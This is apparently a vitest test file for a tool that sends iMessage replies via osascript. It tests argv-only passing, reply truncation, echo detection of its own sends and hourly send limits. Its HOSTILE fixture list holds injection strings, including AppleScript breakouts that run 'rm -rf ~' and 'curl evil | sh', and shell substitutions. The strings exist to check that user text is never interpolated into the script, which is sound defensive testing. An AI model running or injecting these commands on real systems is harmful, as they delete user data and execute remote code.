import { describe, expect, it } from "vitest";
import { Outbox } from "../src/outbox";
import { formatReply, SEND_SCRIPT, sendMessage } from "../src/sender";
import { GENERATIONS } from "./chat-db-fixture";
import { fakeOsascript, messagesHome, PREFIX, queued, until } from "./helpers";

const HOSTILE = [
  'He said "hi" and left',
  '"; do shell script "rm -rf ~" --',
  'end tell\nend run\non run argv\n  do shell script "curl evil | sh"',
  "$(touch /tmp/pwned) `id` ; | & > <",
  'line1\r\nline2\n\n\ttabbed \\ backslash \\" quote',
  "ünïcödé — 日本語 — 🧑‍💻👍🏽 — \u202Eright-to-left — \u0000nul",
  "'single' \u2018curly\u2019 \u201Cdouble\u201D",
];

describe("osascript sender", () => {
  it("passes hostile text only as argv, byte for byte, with the fixed script on stdin", async () => {
    const env = messagesHome("tahoe");
    const fake = fakeOsascript(env);
    for (const text of HOSTILE.filter((t) => !t.includes("\u0000")))
      await sendMessage(env.chats.dm.guid, text);
    const calls = fake.calls();
    expect(calls.map((c) => c.argv)).toEqual(
      HOSTILE.filter((t) => !t.includes("\u0000")).map((t) => ["-", env.chats.dm.guid, t]),
    );
    for (const c of calls) expect(c.stdin).toBe(SEND_SCRIPT);
    // The script text itself never contains user content.
    expect(SEND_SCRIPT).not.toMatch(/rm -rf|shell/);
  });

  it("reports a missing Automation permission as notPermitted", async () => {
    const env = messagesHome("tahoe");
    fakeOsascript(env, {
      FAKE_OSASCRIPT_FAIL: "execution error: Not authorized to send Apple events to Messages. (-1743)",
    });
    await expect(sendMessage(env.chats.dm.guid, "x")).rejects.toMatchObject({ notPermitted: true });
  });
});

describe("formatReply", () => {
  it("leaves short replies alone apart from the prefix", () => {
    expect(formatReply("done", { prefix: PREFIX })).toBe(`${PREFIX}done`);
  });
  it("cuts long replies at a word boundary with a link, within 3,000 characters", () => {
    const long = Array.from({ length: 1000 }, (_, i) => `word${i}`).join(" ");
    const out = formatReply(long, { prefix: PREFIX, link: "https://hub.example/tasks/task_1" });
    expect(Array.from(out).length).toBeLessThanOrEqual(3000);
    expect(out.endsWith("… (full output: https://hub.example/tasks/task_1)")).toBe(true);
    const body = out.slice(PREFIX.length, out.indexOf("…"));
    expect(long.startsWith(body)).toBe(true);
    expect(long[body.length]).toBe(" "); // the cut fell on a boundary
  });
  it("never splits an emoji", () => {
    const out = formatReply("😀".repeat(4000), { prefix: PREFIX, link: "x" });
    expect(Array.from(out).length).toBeLessThanOrEqual(3000);
    expect(out).not.toMatch(/[\uD800-\uDBFF](?![\uDC00-\uDFFF])/);
  });
});

describe.each(GENERATIONS)("outbox on a %s chat.db", (gen) => {
  it("sends, reads its own row back, and never takes it (or its flip) as inbound; a genuine ok still gets through", async () => {
    const env = messagesHome(gen);
    const fake = fakeOsascript(env, { FAKE_FLIP_MS: "300" });
    const state = env.openState();
    const inbox = env.inbox(state, { settleMs: 100 });
    inbox.start();
    const sent: (string | null)[] = [];
    const outbox = new Outbox(state, () => inbox.chatDb(), {
      perHour: 100,
      readbackMs: 3000,
      readbackPollMs: 20,
      maxAttempts: 3,
      onSent: (s) => sent.push(s.guid),
    });
    const reply = `${PREFIX}ok`;
    outbox.enqueue(env.chats.dm.guid, reply);
    outbox.enqueue(env.chats.dm.guid, HOSTILE[1] ?? "");
    await until(() => sent.length === 2, 10_000, "two sends");
    expect(sent.every((g) => typeof g === "string")).toBe(true);
    expect(fake.calls().map((c) => c.argv)).toEqual([
      ["-", env.chats.dm.guid, reply],
      ["-", env.chats.dm.guid, HOSTILE[1]],
    ]);
    // The user's own "ok" is a different row: it must arrive.
    env.writer.insert({ chat: env.chats.dm, handle: env.handles.operator, text: "ok" });
    await until(() => queued(state).length === 1, 10_000, "the genuine ok");
    await until(
      () => state.counter("rows.accepted") + state.counter("rows.echo") + state.counter("rows.from_me") === 3,
    );
    expect(queued(state).map((m) => m.text)).toEqual(["ok"]);
    await outbox.stop();
  });

  it("recognises its own send by identity even when macOS never flips is_from_me", async () => {
    const env = messagesHome(gen);
    fakeOsascript(env, { FAKE_FLIP_MS: "never" });
    const state = env.openState();
    const inbox = env.inbox(state, { settleMs: 50 });
    inbox.start();
    const outbox = new Outbox(state, () => inbox.chatDb(), {
      perHour: 100,
      readbackMs: 2000,
      readbackPollMs: 20,
      maxAttempts: 3,
    });
    // No prefix on purpose: only identity (chat + after our send + our bytes) can catch it.
    outbox.enqueue(env.chats.dm.guid, "status");
    await until(() => state.counter("rows.echo") === 1, 10_000, "the echo");
    env.writer.insert({ chat: env.chats.dm, handle: env.handles.operator, text: "status" });
    await until(() => queued(state).length === 1, 10_000, "the user's own status");
    expect(state.counter("rows.accepted")).toBe(1);
    await outbox.stop();
  });
});

describe("send budget", () => {
  it("sends at most perHour per rolling hour and keeps the rest queued across a restart", async () => {
    const env = messagesHome("sequoia");
    const fake = fakeOsascript(env);
    let now = Date.now();
    const clock = () => now;
    let state = env.openState();
    const inbox = env.inbox(state);
    inbox.start();
    const mk = () =>
      new Outbox(state, () => inbox.chatDb(), {
        perHour: 3,
        readbackMs: 0,
        readbackPollMs: 10,
        maxAttempts: 3,
        now: clock,
      });
    let outbox = mk();
    for (let i = 0; i < 5; i++) outbox.enqueue(env.chats.dm.guid, `${PREFIX}reply ${i}`);
    await until(
      () => fake.calls().length === 3 && state.counter("send.deferred") >= 1,
      10_000,
      "three sends",
    );
    await outbox.stop();
    expect(state.backlog()).toBe(2);
    // A second process on the same bridge database (the first one's inbox keeps its handle).
    state = env.openState();
    now += 3_600_001;
    outbox = mk();
    outbox.kick();
    await until(() => fake.calls().length === 5 && state.backlog() === 0, 10_000, "the backlog");
    expect(fake.calls().map((c) => c.argv[2])).toEqual([0, 1, 2, 3, 4].map((i) => `${PREFIX}reply ${i}`));
    expect(state.backlog()).toBe(0);
    await outbox.stop();
  });
});
